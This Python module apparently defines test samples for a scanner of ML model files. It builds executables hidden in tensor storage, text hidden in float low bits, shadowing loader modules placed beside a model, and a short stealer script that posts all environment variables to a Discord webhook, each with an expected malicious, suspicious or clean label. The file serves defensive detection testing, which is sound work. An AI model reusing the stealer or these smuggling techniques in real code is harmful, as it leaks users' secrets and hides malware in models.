# SPDX-License-Identifier: Apache-2.0
"""Techniques that belong to no format: programs among numbers, what nobody
can see, and Python beside a model."""

import random
import struct

import samples as s
from format_gguf import ELF
from gen_zip import Entry, build

COVERS = ["any", "py"]
M, S, U, C = "malicious", "suspicious", "unknown", "clean"
POINTER = (b"version https://git-lfs.github.com/spec/v1\n"
           b"oid sha256:" + b"0" * 64 + b"\nsize 440473133\n")
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0d\x86" + bytes(80)


def storages(data):
    """A checkpoint of one storage."""
    return build([Entry(b"archive/data.pkl", s.stream(s.mapping(
        [("w", s.tensor("0", 1, len(data) // 4))]))),
        Entry(b"archive/data/0", data), Entry(b"archive/version", b"3\n")])


# Floats whose lowest bits spell a text.
CARRIED = b"".join(
    bytes([(each & 0xfe) | (b"echo marker"[i // 8 % 11] >> i % 8 & 1)]) +
    b"\x80\x3d\x3c" for i, each in enumerate(
        random.Random(7).randbytes(1024)))
STEALER = (b"import datasets, json, os, urllib.request\n"
           b"data = json.dumps(dict(os.environ)).encode()\n"
           b"urllib.request.urlopen('https://discord.com/api/webhooks/"
           b"00000000/marker.invalid', data)\n")

THREATS = [
    ("T280", "an ELF program as numbers", S, "m.pt",
     storages(ELF + bytes(64))),
    ("T280", "a Windows program as numbers", S, "m.pt",
     storages(PE + bytes(4))),
    ("T281", "a pointer to a file", C, "m.bin", POINTER),
    ("T282", "a text in the lowest bits of numbers", C, "m.pt",
     storages(CARRIED)),
    ("T283", "a module of the loader's beside it", M, "m.bin",
     {"m.bin": s.state_dict(), "torch.py": b"import os\n"}),
    ("T283", "a package of the loader's beside it", M, "m.bin",
     {"m.bin": s.state_dict(), "collections/__init__.py": b"import os\n"}),
    ("T284", "a script that sends secrets away", M, "data.py", STEALER),
]
